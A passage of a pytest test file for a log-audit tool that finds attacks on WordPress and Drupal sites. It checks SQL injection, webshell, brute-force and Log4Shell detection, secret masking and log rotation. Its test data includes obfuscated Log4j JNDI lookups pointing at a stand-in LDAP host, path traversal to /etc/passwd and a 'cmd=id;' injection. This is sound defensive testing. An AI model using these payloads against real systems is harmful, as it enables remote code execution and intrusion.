        == [("header_injection", 1)]


@pytest.mark.parametrize("unit", ["${", "() ", "$(", "' or ", "or 1", "union/**/ ",
                                  'o:1:"', "\\x22"])
def test_a_hostile_header_is_read_in_linear_time(unit):
    with within(20, "reading the header"):
        patterns.header_injection((unit * (weblog.MAX_LINE // len(unit))).encode())


def test_audit_counts_and_findings(tmp_path):
    log = tmp_path / "access.log"
    log.write_text(LOG)
    result = audit(log, tmp_path / "state")
    assert result["requests"] == len(NORMAL) + len(PROBES) + len(BRUTE)
    assert result["malformed"] == 1
    assert result["status_classes"] == {"2xx": 33, "3xx": 1, "4xx": 10, "5xx": 1}
    assert result["crawlers"] == {"Googlebot": 1}
    assert result["unique_visitors"] == 17 and result["unique_visitors_exact"]
    assert result["top_paths"][0] == {"path": "/wp-login.php", "count": 25}
    assert result["top_clients"][0] == {"client": "103.9.9.9", "count": 25}
    assert result["first_seen"] == "2026-11-30T08:00:00+07:00"
    assert result["last_seen"] == "2026-11-30T10:00:24+07:00"
    found = {f["category"]: f for f in result["findings"]}
    expected = {c for c, _l in PROBES} | {"wp_bruteforce"}
    assert expected <= set(found)
    sqli = found["sqli"]
    assert sqli["count"] == 2 and sqli["successful"] == 1 and sqli["crs"] == "CRS 942 SQLi"
    assert sqli["name"] == "injeksi SQL (sqli)"
    assert sqli["first_seen"] == "2026-11-30T09:00:00+07:00"
    assert sqli["last_seen"] == "2026-11-30T09:00:09+07:00"
    assert sqli["clients"] == [{"client": "45.1.1.1", "count": 2}]
    assert "UNION%20SELECT" in sqli["samples"][0]
    assert found["webshell"]["successful"] == 1
    assert found["wp_bruteforce"]["count"] == 25
    assert found["wp_bruteforce"]["clients"] == [{"client": "103.9.9.9", "count": 25}]
    assert found["protocol"]["count"] == 2  # PROPFIND, and a TLS handshake on port 80
    output = mod.sop_output(result)
    # each by its title for the reader and its code for website_log_alert_categories
    assert "injeksi SQL (sqli): 2 permintaan, 1 dijawab 2xx (45.1.1.1)" in output["findings"]
    assert ("brute force wp-login.php / xmlrpc.php (wp_bruteforce): 25 permintaan (103.9.9.9)"
            in output["findings"])


def test_a_sample_line_shows_no_secret_a_visitor_s_link_carried(tmp_path):
    # The samples were the lines as written: a password reset key or session in the
    # query, or a referer's credentials, went into the audit's result, kept as evidence.
    log = tmp_path / "access.log"
    log.write_text(
        line("45.1.1.2", "30/Nov/2026:09:01:00", "GET /wp-login.php?action=rp&key=R3setK3y"
             "&page=../../etc/passwd HTTP/1.1", referer="https://adm:Rahas1a@pn.go.id/?sid=S1d")
        + "".join(line("103.9.9.9", f"30/Nov/2026:10:00:{i:02d}",
                       "POST /wp-login.php?session=Sess10n HTTP/1.1") for i in range(20)))
    result = audit(log, tmp_path / "state")
    found = {f["category"]: f for f in result["findings"]}
    assert found["lfi"]["samples"] == [line(
        "45.1.1.2", "30/Nov/2026:09:01:00",
        "GET /wp-login.php?action=rp&key=***&page=../../etc/passwd HTTP/1.1",
        referer="https://***@pn.go.id/?sid=***").rstrip("\n")]
    assert "session=***" in found["wp_bruteforce"]["samples"][0]
    assert not re.search("R3setK3y|Rahas1a|S1d|Sess10n", json.dumps(result))


def test_a_secret_holding_a_byte_that_is_no_utf8_is_masked_whole():
    """The escape a byte that is no UTF-8 becomes (\\xff) is part of the value masked."""
    shown = weblog.sample(b'45.1.1.2 - - [30/Nov/2026:09:01:00 +0700] "GET /?key=R3\xffK3y&a=1 '
                          b'HTTP/1.1" 200 5 "https://adm:Ra\xfehas1a@pn.go.id/?sid=S\xfd1d" "-"')
    assert shown == ('45.1.1.2 - - [30/Nov/2026:09:01:00 +0700] "GET /?key=***&a=1 HTTP/1.1" '
                     '200 5 "https://***@pn.go.id/?sid=***" "-"')


@pytest.mark.parametrize("shift", [0, 3, 7, 12, 40])
def test_a_sample_cut_inside_a_urls_credentials_shows_none_of_them(shift):
    """The line was cut at SAMPLE_CHARS, then masked: a referer's user:password cut before
    its @ was no URL's userinfo, and its start (https://adm:Rahas) was shown."""
    head = '45.1.1.2 - - [30/Nov/2026:09:01:00 +0700] "GET /?q='
    tail = ' HTTP/1.1" 200 5 "https://adm:Rahas1aPanjang@pn.go.id/?sid=S1d" "-"'
    at = tail.index("adm:") + shift  # where the cut falls: in the user, the password
    pad = "A" * (weblog.SAMPLE_CHARS - len(head) - at)
    shown = weblog.sample((head + pad + tail).encode())
    # the line masked, cut at SAMPLE_CHARS at most (where the URL the cut fell in ends)
    masked = head + pad + ' HTTP/1.1" 200 5 "https://***@pn.go.id/?sid=***" "-"'
    assert masked.startswith(shown) and len(head + pad) < len(shown) <= weblog.SAMPLE_CHARS
    assert not re.search("adm|Rahas|Panjang|S1d", shown)


def test_below_bruteforce_threshold_is_no_finding(tmp_path):
    log = tmp_path / "access.log"
    log.write_text("".join(NORMAL + BRUTE[:19]))
    result = audit(log, tmp_path / "state")
    assert result["findings"] == []


def test_only_failed_logins_are_brute_force(tmp_path):
    """WordPress redirects a login it accepts (302 to wp-admin) and answers a failed one
    with its login page (200): every login was counted, so an office's staff behind one
    NAT address passed the threshold of 20 in a day. XML-RPC answers 200 either way:
    each of its POSTs still counts."""
    office = "".join(line("36.8.8.8", f"30/Nov/2026:08:{i:02d}:00", "POST /wp-login.php HTTP/1.1",
                          302) for i in range(30))
    failed = [line("36.8.8.8", f"30/Nov/2026:09:{i:02d}:00", "POST /wp-login.php HTTP/1.1", status)
              for i, status in enumerate([200] * 17 + [403])]
    log = tmp_path / "access.log"
    log.write_text(office + "".join(failed))
    assert audit(log, tmp_path / "state")["findings"] == []
    xmlrpc = "".join(line("36.8.8.8", f"30/Nov/2026:10:{i:02d}:00", "POST /xmlrpc.php HTTP/1.1")
                     for i in range(2))
    log.write_text(office + "".join(failed) + xmlrpc)
    brute = audit(log, tmp_path / "again")["findings"]
    assert [(f["category"], f["count"], f["first_seen"]) for f in brute] == [
        ("wp_bruteforce", 20, "2026-11-30T09:00:00+07:00")]


def test_a_login_path_written_otherwise_is_brute_force_too(tmp_path):
    """The web server decodes a path once and merges slashes and dot segments, and
    WordPress may live in a sub-folder: POSTs to /%77p-login.php, //wp-login.php,
    /blog/xmlrpc.php (or /wp-login.php/x, which Apache runs as PATH_INFO) reach the login
    as /wp-login.php does; only that spelling was counted, so a brute force spread over
    them went unseen."""
    targets = ["/%77p-login.php", "//wp-login.php", "/./xmlrpc.php", "/blog/xmlrpc.php",
               "/wp-login.php/x", "/wp-login.php/?action=login"]
    log = tmp_path / "access.log"
    log.write_text("".join(
        line("103.9.9.8", f"30/Nov/2026:10:00:{i:02d}", f"POST {targets[i % 6]} HTTP/1.1")
        for i in range(24)))
    brute = audit(log, tmp_path / "state")["findings"]
    assert [(f["category"], f["count"]) for f in brute] == [("wp_bruteforce", 24)]
    assert patterns.login_path(b"/a/../wp-login.php")
    for other in (b"/wp-login.php/../index.php", b"/wp-login.php.bak", b"/xwp-login.php",
                  b"/%2577p-login.php"):
        assert not patterns.login_path(other), other


def test_a_login_path_ended_by_an_encoded_newline_is_no_login(tmp_path):
    """/wp-login.php%0a is decoded to a name ending in a newline, which Python's $ matched
    before: POSTs to it, a file no web server has, were failed logins and made a brute
    force. The login itself, with a query or a path (a newline in the path) after it,
    still counts."""
    newline = [line("103.9.9.5", f"30/Nov/2026:10:00:{i:02d}",
                    f"POST {('/wp-login.php%0a', '/blog/xmlrpc.php%0A')[i % 2]} HTTP/1.1")
               for i in range(24)]
    log = tmp_path / "access.log"
    log.write_text("".join(newline))
    assert audit(log, tmp_path / "state")["findings"] == []
    logins = [line("103.9.9.5", f"30/Nov/2026:11:00:{i:02d}",
                   f"POST {('/wp-login.php', '/wp-login.php?redirect_to=x')[i % 2]} HTTP/1.1")
              for i in range(20)]
    log.write_text("".join(newline + logins))
    brute = audit(log, tmp_path / "again")["findings"]
    assert [(f["category"], f["count"]) for f in brute] == [("wp_bruteforce", 20)]
    assert patterns.login_path(b"/wp-login.php/%0a") == b"wp-login"
    assert patterns.failed_login(b"/xmlrpc.php%0a", b"200") is None
    assert not patterns.drupal_xmlrpc(b"/xmlrpc.php%0a")


def test_a_wordpress_modal_re_login_is_no_failed_login(tmp_path):
    """WordPress's modal re-login (wp-admin's form after a session expired) answers 200
    whether the password was right or not: the log cannot tell, so it was a failed login,
    and an office behind one NAT address re-logging in all day was a brute force. The
    form is wp-login.php?interim-login=1, posted to plain wp-login.php (the field in the
    body): the form is the POST's referer. A later try in it, refused by a security
    plugin (403), or posted with a referer of plain wp-login.php, still counts."""
    form = "https://pn.example.go.id/wp-login.php?interim-login=1&wp_lang=id_ID"
    interim = [line("36.8.8.8", f"30/Nov/2026:08:{i:02d}:00",
                    "POST /wp-login.php?interim-login=1 HTTP/1.1") for i in range(15)]
    interim += [line("36.8.8.8", f"30/Nov/2026:09:{i:02d}:00", "POST /wp-login.php HTTP/1.1",
                     referer=form) for i in range(15)]
    log = tmp_path / "access.log"
    log.write_text("".join(interim))
    assert audit(log, tmp_path / "state")["findings"] == []
    counted = [line("36.8.8.8", "30/Nov/2026:10:00:00",
                    "POST /wp-login.php?interim-login=1 HTTP/1.1", 403),
               line("36.8.8.8", "30/Nov/2026:10:00:01", "POST /wp-login.php HTTP/1.1",
                    referer="https://pn.example.go.id/wp-login.php")]
    log.write_text("".join(interim + counted * 10))
    brute = audit(log, tmp_path / "again")["findings"]
    assert [(f["category"], f["count"]) for f in brute] == [("wp_bruteforce", 20)]
    assert patterns.failed_login(b"/wp-login.php", b"200", b"?interim-loginx=1",
                                 b"https://x/wp-login.php?a=interim-login")
    assert not patterns.failed_login(b"/blog/wp-login.php", b"200", b"",
                                     b"https://x/blog/wp-login.php?redirect_to=%2F&interim-login")


DRUPAL_OWN = ["/update.php", "/update.php?op=info", "/update.php/selection",
              "/update.php/start?id=2&op=do_nojs", "/%75pdate.php", "/install.php",
              "/cron.php?cron_key=abc", "/authorize.php?batch=1&op=start",
              "/core/install.php?rewrite=ok", "/core/authorize.php", "/core/rebuild.php"]


@pytest.mark.parametrize("target", DRUPAL_OWN)
def test_drupal_own_scripts_are_no_webshell_on_a_drupal_site(target):
    """Drupal's database update is /update.php, which the shell name up*.php matched: a
    Drupal site's own update was a webshell probe. Its scripts are none when the site is
    known to run Drupal; on a site not known to, /update.php is still a shell's name."""
    assert patterns.target_categories(target.encode(), "drupal") == ()
    if target.startswith(("/update.php", "/%75pdate")):
        assert patterns.target_categories(target.encode()) == ("webshell",)


@pytest.mark.parametrize("target", [
    "/sites/default/files/update.php", "/drupal/update.php", "/update.php/../shell.php",
    "/update.php/x.php", "/core/update2.php", "/update.php%00.jpg"])
def test_a_shell_named_like_drupal_scripts_elsewhere_is_still_one(target):
    assert "webshell" in patterns.target_categories(target.encode(), "drupal")


def test_the_cms_is_passed_to_the_audit(tmp_path):
    """The module's cms reaches every worker, and a target's categories remembered for one
    CMS are not another's."""
    log = tmp_path / "access.log"
    log.write_text("".join(line("36.1.1.9", f"30/Nov/2026:08:00:0{i}", f"GET {t} HTTP/1.1")
                           for i, t in enumerate(["/update.php", "/core/rebuild.php"])))
    assert audit(log, tmp_path / "drupal", cms="drupal")["findings"] == []
    found = audit(log, tmp_path / "unknown")["findings"]
    assert [(f["category"], f["count"]) for f in found] == [("webshell", 1)]


DRUPAL_LOGINS = ["/user/login", "/user/login?destination=/node/5", "/user", "/user/",
                 "/?q=user/login", "/index.php?q=user", "/?q=user%2Flogin&destination=node",
                 "/en/user/login", "/index.php/user/login", "//User/Login"]


def test_drupal_login_failures_are_brute_force_on_a_drupal_site(tmp_path):
    """On a Drupal site a brute force went through its login form (Drupal 8 and later's
    /user/login; Drupal 7's /user, /user/login, /?q=user/login) unseen, and Drupal 7's
    XML-RPC endpoint (/xmlrpc.php) was counted as WordPress's brute force. The form
    answers a failed login with itself (200) and redirects one it accepts (303, Drupal
    7: 302), so only the others count, as WordPress's; the REST login
    (?_format=json) answers one it accepts 200, a failed one 400. A POST to the root's
    xmlrpc.php is its own finding, each one; a WordPress's in a sub-folder is still a
    WordPress brute force."""
    failed = [line("103.9.9.7", f"30/Nov/2026:10:00:{i:02d}",
                   f"POST {DRUPAL_LOGINS[i % len(DRUPAL_LOGINS)]} HTTP/1.1", status)
              for i, status in enumerate([200] * 19 + [403])]
    office = [line("36.8.8.8", f"30/Nov/2026:08:{i:02d}:00",
                   f"POST {DRUPAL_LOGINS[i % len(DRUPAL_LOGINS)]} HTTP/1.1", status)
              for i, status in enumerate([303, 302] * 15)]
    rest = [line("36.8.8.9", f"30/Nov/2026:08:{i:02d}:00",
                 "POST /user/login?_format=json HTTP/1.1") for i in range(25)]
    rest_failed = [line("103.9.9.6", f"30/Nov/2026:10:{i:02d}:00",
                        f"POST /user/login?_format={f} HTTP/1.1", status)
                   for i, (f, status) in enumerate([("json", 400), ("html", 200)] * 10)]
    xmlrpc = [line("45.9.9.9", f"30/Nov/2026:11:00:0{i}", f"POST {t} HTTP/1.1")
              for i, t in enumerate(["/xmlrpc.php", "//xmlrpc.php", "/%78mlrpc.php"])]
    blog = [line("45.9.9.8", f"30/Nov/2026:11:01:{i:02d}", "POST /blog/xmlrpc.php HTTP/1.1")
            for i in range(20)]
    log = tmp_path / "access.log"
    log.write_text("".join(failed + office + rest + rest_failed + xmlrpc + blog))
    found = audit(log, tmp_path / "drupal", cms="drupal")["findings"]
    assert [(f["category"], f["crs"], f["count"], f["successful"],
             [c["client"] for c in f["clients"]]) for f in found] == [
        ("drupal_bruteforce", "Drupal", 40, 0, ["103.9.9.6", "103.9.9.7"]),
        ("wp_bruteforce", "WordPress", 20, 0, ["45.9.9.8"]),
        ("drupal_xmlrpc", "Drupal 7", 3, 3, ["45.9.9.9"])]
    assert found[0]["first_seen"] == "2026-11-30T10:00:00+07:00"
    # elsewhere nothing changes: the Drupal logins are none, every xmlrpc.php WordPress's
    for cms in ("unknown", "wordpress"):
        found = audit(log, tmp_path / cms, cms=cms)["findings"]
        assert [(f["category"], f["count"]) for f in found] == [("wp_bruteforce", 20)]


@pytest.mark.parametrize("path", [
    "/user/password", "/user/register", "/node/user/login", "/user/login/x", "/users/login",
    "/?q=user/password", "/node?q=user/login", "/xx-yyyyy/user/login", "/user/login.php"])
def test_other_drupal_paths_are_no_login(path):
    target, _, query = path.partition("?")
    assert not patterns.drupal_login(target.encode(), b"?" + query.encode() if query else b"")
    assert patterns.failed_login(target.encode(), b"200", b"?" + query.encode(), b"",
                                 "drupal") is None


DRUPAL_BLOCK_POSTS = ["/node?destination=node", "/berita/sidang-hari-ini?destination=node/5",
                      "/?q=node&destination=node", "/index.php?q=node/5&destination=node/5",
                      "/profil?destination=/node/7"]


def test_drupal_login_block_failures_are_brute_force_on_a_drupal_site(tmp_path):
    """Drupal 7's login block, on every page, posts to the page it is on with
    ?destination= (the front page: POST /node?destination=node): a brute force through it
    was not seen. A failed login answers the page again (200), one accepted is redirected
    (302); an admin's edit form also carries ?destination= and answers 200 when its
    validation fails, and is no login."""
    failed = [line("103.9.9.8", f"30/Nov/2026:10:00:{i:02d}",
                   f"POST {DRUPAL_BLOCK_POSTS[i % len(DRUPAL_BLOCK_POSTS)]} HTTP/1.1")
              for i in range(24)]
    office = [line("36.8.8.8", f"30/Nov/2026:08:{i:02d}:00",
                   f"POST {DRUPAL_BLOCK_POSTS[i % len(DRUPAL_BLOCK_POSTS)]} HTTP/1.1", 302)
              for i in range(30)]
    editor = [line("36.8.8.9", f"30/Nov/2026:09:{i:02d}:00", f"POST {path} HTTP/1.1")
              for i, path in enumerate([
                  "/node/5/edit?destination=admin/content", "/node/add/article?destination=node",
                  "/admin/structure/block?destination=node",
                  "/user/7/cancel?destination=admin/people",
                  "/?q=node/5/delete&destination=admin/content",
                  "/taxonomy/term/3/edit?destination=admin/structure"] * 5)]
    log = tmp_path / "access.log"
    log.write_text("".join(failed + office + editor))
    found = audit(log, tmp_path / "drupal", cms="drupal")["findings"]
    assert [(f["category"], f["count"], [c["client"] for c in f["clients"]])
            for f in found] == [("drupal_bruteforce", 24, ["103.9.9.8"])]
    assert found[0]["title"] == "brute force login Drupal di /user/login dan blok login"
    # on a site not known to run Drupal a POST with ?destination= is no login
    assert audit(log, tmp_path / "unknown")["findings"] == []


@pytest.mark.parametrize(("path", "status", "counted"), [
    ("/node?destination=node", b"200", True),
    ("/node?destination=node", b"302", False),
    ("/node?destination=node", b"404", False),  # a page that is not there: no block
    ("/node", b"200", False),  # the block's POST without ?destination=: any form's
    ("/node?x=1&destination=node", b"200", True),
    ("/node?nodestination=node", b"200", False),
    ("/node?Destination=node", b"200", False),  # PHP's $_GET names keep their case
    ("/node/5/edit?destination=admin/content", b"200", False),
    ("/admin?destination=node", b"200", False),
    ("/index.php?q=admin/content&destination=node", b"200", False),
    ("/editorial?destination=node", b"200", True),  # a page named like a form is a page
    # no edit segment: Drupal 7 serves node/5 (its menu falls back to node/%), block too
    ("/node/5/edit%0a?destination=node", b"200", True),
])
def test_the_drupal_login_block_is_told_from_other_posts(path, status, counted):
    target, _, query = path.partition("?")
    category = patterns.failed_login(target.encode(), status, b"?" + query.encode() if query
                                     else b"", b"", "drupal")
    assert category == ("drupal_bruteforce" if counted else None)


def test_clean_log_has_no_findings(tmp_path):
    log = tmp_path / "access.log"
    log.write_text("".join(NORMAL))
    assert audit(log, tmp_path / "state")["findings"] == []


def test_a_browser_s_unused_preconnection_is_no_protocol_abuse(tmp_path):
    """Chrome and Firefox open connections ahead of need and close the unused ones; nginx
    logs each as "-" 400 or 408 and Apache as "-" 408, no request line read: every
    visitor's browser was a 'protocol' finding each day. A request line that is no HTTP
    (a TLS handshake to the plain port) still is one."""
    log = tmp_path / "access.log"
    log.write_text("".join(NORMAL) + "".join(
        f'36.1.1.{n} - - [30/Nov/2026:08:0{n}:20 +0700] "-" {status} 0 "-" "-"\n'
        for n, status in ((1, 408), (2, 400))))
    result = audit(log, tmp_path / "state")
    assert result["findings"] == []
    assert (result["requests"], result["statuses"]["408"]) == (len(NORMAL) + 2, 1)
    log.write_text(PROBES[-1][1])
    assert [f["category"] for f in audit(log, tmp_path / "other")["findings"]] == ["protocol"]


def test_a_user_agent_with_apache_s_escaped_quotes_is_read_whole(tmp_path):
    """Apache writes a quote in a field as \" (nginx's escape=json too). The fast
    pattern ended the user agent, the last field it reads, at the first \", so a
    scanner naming itself after one ("x\" sqlmap/1.7") was the agent 'x\'; a raw
    backslash ending an agent (nginx's escape=none) is no escape and still a request."""
    log = tmp_path / "access.log"
    log.write_text(line("45.1.1.1", "30/Nov/2026:09:00:00", "GET / HTTP/1.1",
                        agent='x\\" sqlmap/1.7 \\"y\\"')
                   + line("36.1.1.1", "30/Nov/2026:09:00:01", "GET / HTTP/1.1", agent="a\\"))
    result = audit(log, tmp_path / "state")
    assert [(f["category"], f["clients"]) for f in result["findings"]] == [
        ("scanner", [{"client": "45.1.1.1", "count": 1}])]
    assert (result["requests"], result["malformed"]) == (2, 0)


def test_a_referer_ending_in_an_escaped_quote_hides_no_user_agent(tmp_path):
    """Apache writes the referer 'x" ' as "x\" ": the fast pattern ended it at its \",
    read the quote after it as the referer's end and the space between the fields as
    the user agent, so the real one (a scanner's) went unread. A raw backslash ending a
    referer (nginx's escape=none) is no escape and still a request."""
    log = tmp_path / "access.log"
    log.write_text(line("45.1.1.1", "30/Nov/2026:09:00:00", "GET / HTTP/1.1",
                        referer='x\\" ', agent="sqlmap/1.7")
                   + line("36.1.1.1", "30/Nov/2026:09:00:01", "GET / HTTP/1.1", referer="a\\"))
    result = audit(log, tmp_path / "state")
    assert [(f["category"], f["clients"]) for f in result["findings"]] == [
        ("scanner", [{"client": "45.1.1.1", "count": 1}])]
    assert (result["requests"], result["malformed"], result["unique_visitors"]) == (2, 0, 2)


def test_a_path_or_client_a_line_long_is_cut_in_the_result(tmp_path):
    """Whoever writes the log (the web server's account owns it) makes a client or a path
    as long as a line: ten lines of 200 KB each hitting five categories were a 4.5 MB
    result, kept as evidence. Each is shown at most SAMPLE_CHARS characters."""
    log = tmp_path / "access.log"
    log.write_text("".join(
        line(f"{i}" + "9" * 100000, "30/Nov/2026:09:00:00",
             f"GET /{i}{'a' * 100000}/.env?cmd=id;<script>/etc/passwd HTTP/1.1",
             agent="sqlmap") for i in range(10)))
    result = audit(log, tmp_path / "state")
    texts = [p["path"] for p in result["top_paths"]] + [
        c["client"] for c in result["top_clients"] + [
            c for f in result["findings"] for c in f["clients"]]]
    assert len(texts) == 10 + 10 + 5 * 5
    assert {len(t) for t in texts} == {weblog.SAMPLE_CHARS}
    assert len(json.dumps(result)) < 300_000


@pytest.mark.parametrize("lookup", [
    "${jndi:ldap://x/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}di:rmi://x/a}",
    "${j${env:X:-n}di:ldap://x/a}", "${jn${date:}di:ldap://x/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
    "${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://x/a}", "${${main:\\k5:-Jnd}i:ldap://x/a}",
    "${${zrch-Q(NGyN-yLkV-longer:-}j${sm:E:-ndi}:ldap://x/a}", "${${base64:am5kaQ==}:ldap://x}",
])
@pytest.mark.parametrize("encoding", ["plain", "url", "double"])
def test_a_log4j_lookup_in_the_target_is_java_however_it_hides_its_name(lookup, encoding):
    """The target's Java pattern knew five lookup names: a name built of date, k8s, main
    or a made-up lookup's default (the public Log4Shell bypass lists) passed, while the
    same text in the User-Agent was a finding. A template's unrendered ${...} is none."""
    text = {"plain": lookup, "url": quote(lookup, safe=""),
            "double": quote(quote(lookup, safe=""), safe="")}[encoding]
    assert "java" in patterns.target_categories(f"/?x={text}".encode())
    assert patterns.header_injection(lookup.encode())


@pytest.mark.parametrize("target", [
    "/img/${item.src}", "/?q=${query}&p=${page}", "/${a}/${b}",
    # a JavaScript template's ternary and a Vue i18n call, unrendered in a link: a ':'
    # or a '$' follows the '${', but no lookup's name nor a nested '${'
    "/berita/?page=${page ? page : 1}", "/?label=%24%7B%24t('menu.home')%7D",
    "/?utm_content=$%7Bad.name%7D:$%7Badset.name%7D",
])
def test_an_unrendered_template_in_the_target_is_no_lookup(target):
    assert patterns.target_categories(target.encode()) == ()
    # nor in a Referer carrying that link
    assert not patterns.header_injection(f"https://pn-x.go.id{target}".encode())


def lines(n: int, hour: int, ip: str = "36.2.2.2") -> str:
    return "".join(line(ip, f"30/Nov/2026:{hour:02d}:{i // 60:02d}:{i % 60:02d}",
                        f"GET /p{i} HTTP/1.1") for i in range(n))


def test_only_new_lines_and_partial_line_waits(tmp_path):
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    first = audit(log, state)
    assert (first["requests"], first["resumed"][str(log)]) == (10, "first-run")
    state_file = next(state.iterdir())
    assert oct(state.stat().st_mode & 0o777) == "0o700"
    assert oct(state_file.stat().st_mode & 0o777) == "0o600"
    assert audit(log, state)["requests"] == 0
    half = lines(1, 2)
    with open(log, "a") as handle:
        handle.write(lines(5, 3) + half[:30])
    second = audit(log, state)
    assert (second["requests"], second["resumed"][str(log)]) == (5, "live")
    with open(log, "a") as handle:
        handle.write(half[30:])
    assert audit(log, state)["requests"] == 1


@pytest.mark.parametrize("compressed", [False, True], ids=["plain", "gzip"])
@pytest.mark.parametrize("resumed", [False, True], ids=["first-run", "after-rotation"])
def test_a_rotated_copy_s_last_line_without_a_newline_is_read(tmp_path, compressed, resumed):
    """A rotated copy is no longer written (copytruncate copied the live log while a line
    was being written): its last line counts without a newline, plain or gzipped, on
    the first run and after a rotation. The live log's own such line still waits."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    if resumed:
        audit(log, state)
    text = (log.read_text() if resumed else "") + lines(3, 2)[:-1]  # no final newline
    rotated = tmp_path / ("access.log.1.gz" if compressed else "access.log.1")
    rotated.write_bytes(gzip.compress(text.encode()) if compressed else text.encode())
    log.write_text(lines(2, 3) + lines(1, 4)[:30])
    result = audit(log, state)
    assert (result["requests"], result["malformed"]) == (3 + 2, 0)
    assert [f["path"] for f in result["files"]] == [str(rotated), str(log)]


def test_check_mode_keeps_the_state(tmp_path):
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(4, 1))
    assert audit(log, state, check=True)["requests"] == 4
    assert not state.exists()
    audit(log, state)
    with open(log, "a") as handle:
        handle.write(lines(3, 2))
    assert audit(log, state, check=True)["requests"] == 3
    assert audit(log, state)["requests"] == 3


def test_rotation_rename_then_gzip(tmp_path):
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    with open(log, "a") as handle:
        handle.write(lines(4, 2))  # written before the rotation, not read yet
    os.rename(log, tmp_path / "access.log.1")
    log.write_text(lines(6, 3, "36.3.3.3"))
    result = audit(log, state)
    assert result["requests"] == 10
    assert result["resumed"][str(log)] == f"rotated:{tmp_path / 'access.log.1'}"
    # next rotation: .1 is gzipped to .2.gz, the live log becomes .1, with unread lines
    with open(log, "a") as handle:
        handle.write(lines(2, 4))
    with open(tmp_path / "access.log.1", "rb") as src, \
            gzip.open(tmp_path / "access.log.2.gz", "wb") as dst:
        shutil.copyfileobj(src, dst)
    os.rename(log, tmp_path / "access.log.1")
    log.write_text(lines(3, 5))
    result = audit(log, state)
    assert result["requests"] == 5
    assert result["resumed"][str(log)] == f"rotated:{tmp_path / 'access.log.1'}"


def test_unread_lines_already_gzipped(tmp_path):
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    with open(log, "a") as handle:
        handle.write(lines(4, 2))
    with open(log, "rb") as src, gzip.open(tmp_path / "access.log.2.gz", "wb") as dst:
        shutil.copyfileobj(src, dst)
    (tmp_path / "access.log.1").write_text(lines(7, 3, "36.4.4.4"))
    log.write_text(lines(1, 4, "36.5.5.5"))
    result = audit(log, state)
    assert result["requests"] == 4 + 7 + 1
    assert result["resumed"][str(log)] == f"rotated:{tmp_path / 'access.log.2.gz'}"


@pytest.mark.parametrize("written", [0.5, 1.0])
def test_a_rotated_copy_being_gzipped_is_read_once(tmp_path, written):
    """logrotate compresses access.log.2 into access.log.2.gz, then removes the plain
    file: meanwhile both are there, the gzip still being written or complete."""
    log, state = tmp_path / "access.log", tmp_path / "state"
    log.write_text(lines(10, 1))
    audit(log, state)
    with open(log, "a") as handle:
        handle.write(lines(2, 2))  # not read yet
    with gzip.open(tmp_path / "access.log.3.gz", "wb") as handle:  # two rotations later
        handle.write(log.read_bytes())
    log.unlink()
    (tmp_path / "access.log.2").write_text(lines(4, 3, "36.3.3.3"))
    whole = gzip.compress((tmp_path / "access.log.2").read_bytes())
    (tmp_path / "access.log.2.gz").write_bytes(whole[: int(len(whole) * written)])
    (tmp_path / "access.log.1").write_text(lines(3, 4, "36.4.4.4"))
    log.write_text(lines(1, 5, "36.5.5.5"))
    result = audit(log, state)
    assert result["requests"] == 2 + 4 + 3 + 1
    assert [Path(f["path"]).name for f in result["files"]] == [
        "access.log.3.gz", "access.log.2", "access.log.1", "access.log"]
    result = audit(log, tmp_path / "first")
    assert result["requests"] == 12 + 4 + 3 + 1


def test_truncated_gzip_is_named_not_read_silently(tmp_path):
    log = tmp_path / "access.log"
    log.write_text(lines(3, 1))
    whole = gzip.compress(lines(4000, 2).encode())
    (tmp_path / "access.log.1.gz").write_bytes(whole[: len(whole) // 2])  # logrotate's disk filled
    (tmp_path / "access.log.2.gz").write_bytes(b"")  # empty: nothing to read, no error
    rc, result = run_module("website_log_audit", tmp_path,
                            {"paths": [str(log)], "state_dir": str(tmp_path / "state")})
    assert rc != 0 and result["msg"].startswith(
        f"access log {tmp_path / 'access.log.1.gz'}: truncated gzip file")
    assert "\n" not in result["msg"]


@pytest.mark.parametrize("kind", ["xz", "bz2"])
def test_an_xz_or_bzip2_copy_is_read_whole_and_a_truncated_one_named(tmp_path, kind):
    """Every stream of a copy is read (xz and bzip2 files may hold several), from a
    position inside it too; an empty one is nothing to read; one cut before its end is
    named, not read silently short."""
    copy = tmp_path / f"access.log.1.{kind}"
    text = lines(3, 1) + lines(4, 2)
    copy.write_bytes(PACK[kind](lines(3, 1).encode()) + PACK[kind](lines(4, 2).encode()))
    (tmp_path / "plain").write_text(text)
    assert weblog.fingerprint(str(copy), kind) == weblog.fingerprint(str(tmp_path / "plain"), "")
    tally = weblog.scan_task(weblog.Task(str(copy), 0, -1, kind, rotated=True))
    assert (tally.requests, tally.malformed) == (7, 0)
    start = len(lines(2, 1))
    assert weblog.scan_task(weblog.Task(str(copy), start, -1, kind, rotated=True)).requests == 5
    copy.write_bytes(b"")
    assert weblog.fingerprint(str(copy), kind) is None
    assert weblog.scan_task(weblog.Task(str(copy), 0, -1, kind, rotated=True)).requests == 0
    whole = PACK[kind](lines(4000, 2).encode())
    copy.write_bytes(whole[: len(whole) // 2])
    with pytest.raises(weblog.LogError, match=f"^{re.escape(str(copy))}: truncated {kind} file"):
        weblog.scan_task(weblog.Task(str(copy), 0, -1, kind, rotated=True))


def test_rotated_copies_by_number_date_and_compression(tmp_path):
    """logrotate's numbers and dateext's dates and epochs, plain or compressed with gzip,
    xz or bzip2, newest first; a copy being compressed is read from its plain file; a
    zstd copy, which Python on Debian 12 cannot read, is none."""
    names = ["access.log", "access.log.1", "access.log.2", "access.log.2.xz", "access.log.3.bz2",
             "access.log.4.gz", "access.log.5.zst", "access.log.old", "access.log.6.xz.tmp"]
    for name in names:
        (tmp_path / name).write_text("")
    assert weblog.rotated(str(tmp_path / "access.log")) == [
        (str(tmp_path / "access.log.1"), ""), (str(tmp_path / "access.log.2"), ""),
        (str(tmp_path / "access.log.3.bz2"), "bz2"), (str(tmp_path / "access.log.4.gz"), "gz")]
